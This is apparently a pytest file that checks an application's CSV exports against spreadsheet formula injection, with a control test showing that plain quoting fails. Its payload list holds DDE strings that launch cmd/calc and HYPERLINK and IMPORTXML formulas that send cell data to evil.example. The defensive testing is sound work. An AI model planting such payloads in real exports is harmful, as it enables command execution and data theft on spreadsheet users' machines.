"""No cell of a list that leaves as CSV runs in a spreadsheet, whatever a customer or a colleague wrote (SAFETY 23)."""

import csv
import io
import random
import re
from itertools import islice
from pathlib import Path

import pytest
from sqlmodel import col, select

from classifiers import labels
from data import audit, conversations, downloads, lists, people, predictions, store, views
from data.conversations import Filter
from data.errors import Refused
from data.exports import cells
from data.intake import door
from data.tables import Conversation, Label, Message, Person
from data.values import LIVE, new_id, now
from language import redact
from tests.conftest import SOAK, hire
from tests.conversations import canonical

CELLS = 25_000 if SOAK else 2_500
LABELS = 60
SIGNS = ["=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠"]
BEFORE = [
    "", " ", "   ", "\t", "\n", "\r\n", "\u00a0", "\u3000", "\u2003", "\x0b", "\x0c", "\x1f", "\x85", "\u2028", "\0", " \0 ", "'", "''",
    "\n\n ", '"', '""', '","', '";"', "a,", 'x","', "x\r\n", "\t\u00a0", " '", "1;", "1\t",
]  # fmt: skip
BEHIND = [
    "1+1", "cmd|' /C calc'!A0", "SUM(1+1)*cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/?x="&A1,"Click")', "WEBSERVICE(A1)",
    'IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")', "DDE(\"cmd\";\"/C calc\";\"!A0\")",
    'MSEXCEL|\'\\..\\cmd.exe /c calc\'!A', "2+5+cmd", "@SUM(A1:A9)", "10+20", '"";=1+1', "A1&\",\"&B1", "\r\n=1+1",
    "\"\r\n\"=1+1", "\0=1", "", " ", "=1", "+491701234567",
]  # fmt: skip


def hostile() -> list[str]:
    """Every sign behind everything that may stand before it, with what follows drawn; in an order of its own."""
    rng = random.Random(23)
    made = [f"{before}{sign}{behind}" for before in BEFORE for sign in SIGNS for behind in BEHIND]
    rng.shuffle(made)
    return [made[place % len(made)] for place in range(CELLS)]


BLANK = re.compile(r'[\s\0\u200b\u2060\ufeff"]*')
DANGEROUS = re.compile(r"[=+\-@\t\r\n\0＝＋－＠]")


def is_live(cell: str) -> bool:
    """What a spreadsheet may take for a formula: a sign at the very start, or behind blanks and quotation marks."""
    return bool(DANGEROUS.match(cell) or DANGEROUS.match(cell, BLANK.match(cell).end()))  # type: ignore[union-attr]


def parsed(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def as_meant(text: str) -> str:
    """What the list means to say in a cell: in one line, and masked."""
    return redact.masked(in_one_line(text), keep=["Rita"])


def in_one_line(text: str) -> str:
    return " ".join(text.replace("\0", "").split())


def without_mark(cell: str) -> str:
    return cell.removeprefix("'").replace(";'", ";")


@pytest.fixture
def filled(sqlite_home: Path) -> tuple[Person, dict[str, tuple[str, str, str]]]:
    """Conversations with hostile subjects, openings and intents, put past the door as an older portal may have kept them."""
    staff, texts = hire(), iter(hostile())
    named = [labels.add(f"Intent {number}", by=staff.lead).id for number in range(LABELS)]
    planted: dict[str, tuple[str, str, str]] = {}
    names = {made: f"{text}{number:03}" for number, (made, text) in enumerate(zip(named, islice(texts, LABELS), strict=True))}
    wanted = [canonical(number, team="Oak", channel="chat") for number in range(-(-CELLS // 3))]
    with store.writing() as db:
        ids = [
            made
            for start in range(0, len(wanted), 500)
            for made in door.receive(wanted[start : start + 500], by=people.console(), classify=False).ids
        ]
        for label in db.exec(select(Label).where(col(Label.id).in_(named))):
            label.name = names[label.id]
            db.add(label)
        rows = {row.id: row for row in db.exec(select(Conversation))}
        openings = {row.conversation_id: row for row in db.exec(select(Message).where(Message.seq == 1))}
        said = []
        for number, made in enumerate(ids):
            label_id = named[number % LABELS]
            rows[made].subject, openings[made].text = next(texts), next(texts)
            db.add_all([rows[made], openings[made]])
            planted[made] = (rows[made].subject or "", openings[made].text, names[label_id])
            said.append(
                {
                    "id": new_id(), "at": now(), "conversation_id": made, "seq": 1, "mode": LIVE, "label_id": label_id, "confidence": 0.9,
                    "top": [[label_id, 0.9]], "threshold": 0.5, "target_kind": "classifier", "target_name": "intent", "target_number": 1,
                    "why": "",
                }
            )  # fmt: skip
        predictions.add(db, said)
    return staff.rep, planted


def test_no_cell_of_a_list_is_a_formula_and_every_line_is_whole(filled: tuple[Person, dict[str, tuple[str, str, str]]]) -> None:
    rep, planted = filled
    made = lists.as_csv(Filter(), by=rep)
    ticket = downloads.offer(made.key, made.name, by=rep, right="conversation.export")
    text = downloads.fetch(ticket, by=rep).path.read_bytes().decode()
    header, *rows = parsed(text)
    expected = min(len(planted), lists.MOST)
    whole = 0
    for row in rows:
        subject, opening, intent = planted[row[9].rpartition("=")[2]]
        came = [without_mark(row[place]) for place in (3, 4, 5)]
        meant = [as_meant(subject), as_meant(opening[: 4 * lists.LONGEST])[: lists.LONGEST], in_one_line(intent)]
        meant = [without_mark(told) for told in meant]
        whole += len(row) == len(header) and came == meant
    live = [cell for row in rows for cell in row if is_live(cell)]
    print(f"{3 * len(rows):,} cells of others' making: {len(live)} live, {whole:,} of {expected:,} lines whole")
    assert tuple(header) == lists.HEADER and live == []
    assert whole == len(rows) == expected
    for delimiter in (";", "\t"):  # as a spreadsheet of another country parts it
        assert [cell for row in parsed(text, delimiter) for cell in row if is_live(cell)] == []


def test_no_cell_breaks_out_into_the_next() -> None:
    """The same ones through the writer of lines itself, three in a line, with their line breaks."""
    texts = hostile()
    for start in range(0, len(texts), 3):
        three = texts[start : start + 3]
        (row,) = parsed(lists.line(three))
        assert [cell for cell in row if is_live(cell)] == []
        assert [without_mark(cell) for cell in row] == [without_mark(in_one_line(text)) for text in three]


def test_names_of_views_do_not_start_a_formula_in_the_record(sqlite_home: Path) -> None:
    staff, saved = hire(), 0
    for number, text in enumerate(sorted({one for one in hostile() if one.strip("\0 \t\r\n")}, key=len)[:200]):
        try:
            views.save(f"{text}{number}", Filter(channel="chat"), by=staff.rep, shared=True)
            saved += 1
        except Refused as refused:
            assert "1 to 80 characters" in str(refused)
    names = people.names() | {staff.rep.id: '=HYPERLINK("http://evil.example","Rita")'}
    rows = parsed(audit.as_csv(by=staff.lead, found=audit.Filter(noun="view"), names=names).decode())
    assert len(rows) == saved + 1 > 150 and [cell for row in rows for cell in row if is_live(cell)] == []
    assert len(views.of(by=staff.lead)) == saved


def test_a_writer_that_only_quotes_lets_them_through(filled: tuple[Person, dict[str, tuple[str, str, str]]]) -> None:
    """The control: the same lines by the standard library's writer, told to quote everything."""
    rep, _ = filled
    shown = conversations.listed(Filter(), by=rep, size=lists.MOST)
    held = io.StringIO()
    csv.writer(held, quoting=csv.QUOTE_ALL).writerows([row.subject.replace("\0", ""), row.opening, row.intent or ""] for row in shown)
    live = [cell for row in parsed(held.getvalue()) for cell in row if is_live(cell)]
    print(f"without the defence: {len(live):,} live of {3 * len(shown):,}")
    assert len(live) > len(shown)
    assert [is_live(cell) for cell in ("=1", " \u3000＝1", "\t", '"=1', "'=1", "a=1", "")] == [True] * 4 + [False] * 3
    by_commas_alone, as_a_list = ",".join(map(cells.cell, ("a", "b;=1+1"))), lists.line(("a", "b;=1+1"))
    parted = [[is_live(cell) for row in parsed(made, ";") for cell in row] for made in (by_commas_alone, as_a_list)]
    assert parted == [[False, True], [False, False]]
